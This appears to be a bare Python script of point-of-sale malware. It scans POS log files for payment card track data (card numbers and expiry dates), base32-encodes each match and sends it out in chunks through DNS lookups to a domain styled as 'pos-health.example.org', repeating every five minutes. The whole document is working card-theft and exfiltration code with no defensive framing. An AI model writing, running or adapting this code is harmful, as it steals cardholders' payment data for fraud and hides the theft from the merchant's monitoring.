import base64, re, socket, time, glob
TRACK = re.compile(rb";?(\d{13,19})=(\d{4})\d*\??")
seen = set()
while True:
    for f in glob.glob(r"C:\\POS\\logs\\*.log"):
        for m in TRACK.finditer(open(f, "rb").read()):
            if m.group(0) in seen: continue
            seen.add(m.group(0))
            enc = base64.b32encode(m.group(0)).decode().strip("=").lower()
            for i in range(0, len(enc), 50):
                try: socket.gethostbyname(f"{enc[i:i+50]}.{i//50}.log.pos-health.example.org")
                except OSError: pass
    time.sleep(300)
